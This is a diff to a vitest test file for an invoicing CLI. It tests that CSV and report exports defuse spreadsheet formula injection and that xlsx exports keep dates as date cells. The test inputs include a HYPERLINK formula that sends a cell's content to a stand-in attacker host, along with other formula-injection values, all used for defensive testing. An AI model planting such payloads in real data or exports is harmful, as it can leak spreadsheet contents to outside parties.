@@ -2,6 +2,8 @@ import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { DatabaseSync } from 'node:sqlite';
 import { createHash } from 'node:crypto';
+import { Workbook } from '@cj-tech-master/excelts';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { records, writeNdjson } from '../bulk/helpers.js';
 import { runInProcess } from '../helpers/in-process.js';
@@ -132,6 +134,78 @@ describe('lists an accountant reads', () => {
     const wrong = await runInProcess(['invoices', 'list', '--since', '7d'], { home: elsewhere, env });
     expect(wrong.code).toBe(2);
     expect(wrong.stderr).toContain('-7d (seven days ago');
+  });
+});
+
+describe('exports and reports no spreadsheet runs as formulas', () => {
+  const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Pay")', '@SUM(1)', '+1+2', '-2+3'];
+
+  it('names =HYPERLINK(...), @SUM(1), +1+2 and -2+3 in the CSV export and the report: no cell starts with =, +, - or @', async () => {
+    const home = homeFor(sandbox);
+    writeNdjson(
+      home,
+      'hostile.ndjson',
+      hostile.map((name, index) => ({
+        ...records(1)[0],
+        businessReference: name,
+        customer: { name, mobile: '+201012345678' },
+        note: `Order ${index}`,
+      })),
+    );
+    const run = await runInProcess(['create', 'single', '--file', 'hostile.ndjson', '--yes', '--report', 'r.csv'], {
+      home,
+    });
+    expect(run.code, run.stderr).toBe(0);
+    const exported = await runInProcess(['invoices', 'export', '--format', 'csv', '--output', 'all.csv'], { home });
+    expect(exported.code, exported.stderr).toBe(0);
+    for (const file of ['all.csv', 'r.csv']) {
+      const rows = parse(readFileSync(join(home, file), 'utf8').replace(/^\uFEFF/, ''), {
+        relax_column_count: true,
+      }) as string[][];
+      const cells = rows.flat();
+      expect(
+        cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+        file,
+      ).toEqual([]);
+      // Each name is there whole, behind the mark that keeps it text.
+      for (const name of hostile) expect(cells, file).toContain(`'${name}`);
+    }
+    const exportedRows = parse(readFileSync(join(home, 'all.csv'), 'utf8').replace(/^\uFEFF/, ''), {
+      columns: true,
+    }) as Array<Record<string, string>>;
+    // A mobile keeps its +; an amount is the number it is.
+    expect(exportedRows[0]?.customerMobile).toBe("'+201012345678");
+    expect(exportedRows[0]?.amount).toBe('101.00');
+  });
+
+  it('a workbook export has sendingDate and expiryDate as date cells; the CSV header names its zone', async () => {
+    const home = homeFor(sandbox);
+    writeNdjson(home, 'one.ndjson', records(1));
+    const env = { TZ: 'Africa/Cairo' };
+    expect((await runInProcess(['create', 'single', '--file', 'one.ndjson', '--yes'], { home, env })).code).toBe(0);
+    const csv = await runInProcess(['invoices', 'export', '--format', 'csv'], { home, env });
+    const header =
+      csv.stdout
+        .replace(/^\uFEFF/, '')
+        .split('\r\n')[0]
+        ?.split(',') ?? [];
+    expect(header).toContain('sentAt (Africa/Cairo)');
+    expect(header).toContain('expiryDate (Africa/Cairo)');
+    expect(header).toContain('refundedAt (Africa/Cairo)');
+    const [row] = parse(csv.stdout.replace(/^\uFEFF/, ''), { columns: true }) as Array<Record<string, string>>;
+    // An expiry of 2030-02-01 is the end of that day in Cairo, where the run counted it (UTC+2): 23:59:59 there.
+    expect(row?.['expiryDate (Africa/Cairo)']).toBe('2030-02-01 23:59:59');
+    expect(row?.sendingDate).toBe('2030-01-01');
+    const xlsx = await runInProcess(['invoices', 'export', '--format', 'xlsx', '--output', 'all.xlsx'], { home, env });
+    expect(xlsx.code, xlsx.stderr).toBe(0);
+    const workbook = new Workbook();
+    await workbook.xlsx.readFile(join(home, 'all.xlsx'));
+    const sheet = workbook.getWorksheet(1);
+    const [names, values] = (sheet?.getSheetValues().slice(1) ?? []) as unknown[][];
+    const cell = (name: string) => values?.[names?.indexOf(name) ?? -1];
+    expect(cell('sendingDate')).toEqual(new Date('2030-01-01T00:00:00.000Z'));
+    expect(cell('expiryDate (Africa/Cairo)')).toEqual(new Date('2030-02-01T23:59:59.999Z'));
+    expect(cell('amount')).toBe(101);
   });
 });
 
